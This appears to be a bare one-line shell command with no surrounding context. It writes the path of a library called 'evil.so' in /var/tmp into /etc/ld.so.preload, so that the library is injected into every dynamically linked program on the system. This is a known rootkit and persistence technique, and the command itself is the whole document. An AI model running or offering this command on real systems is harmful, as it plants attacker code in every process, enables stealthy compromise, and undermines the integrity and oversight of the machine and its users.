echo /var/tmp/evil.so >/etc/ld.so.preload
